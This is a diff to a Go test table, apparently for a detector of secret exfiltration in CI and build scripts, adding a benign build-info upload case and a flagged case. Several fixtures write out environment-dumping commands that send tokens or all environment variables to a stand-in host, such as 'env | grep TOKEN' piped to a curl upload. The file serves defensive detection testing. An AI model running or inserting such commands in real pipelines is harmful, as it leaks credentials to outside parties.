@@ -201,6 +201,9 @@ var registry = []Rule{
 			// A deploy of the checkout: what it sends is the site, not secrets the script wrote.
 			{".github/workflows/d.yml", "on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: rsync -avz --delete ./ deploy@x.invalid:/var/www/\n      - run: aws s3 sync . s3://x-site --delete", 0, true},
 			{"x.sh", "env > out/e.txt\naws s3 sync out s3://x-b", 2, false},
+			// grep keeping the variables of one prefix that names no credential: build info, not secrets.
+			{".gitlab-ci.yml", "release:\n  script:\n    - printenv | grep -E '^CI_COMMIT' > build-info.env\n    - curl --fail --upload-file build-info.env \"$RELEASE_URL/build-info.env\"", 0, true},
+			{"x.sh", "env | grep TOKEN > t.txt\ncurl -T t.txt https://x.invalid/u", 2, false},
 			// Task's vars and templates, a command folded over lines (- >-), tasks sharing files.
 			{"Taskfile.yml", "version: '3'\nvars:\n  OUT: .cov\ntasks:\n  meta:\n    cmds:\n      - printenv > {{.OUT}}/meta.env\n  push:\n    cmds:\n      - >-\n        curl -sS\n        --upload-file {{.OUT}}/meta.env\n        https://x.invalid/put", 11, false},
 			// Jenkins: what withCredentials binds, written to a file by writeFile, sent by a later sh step.
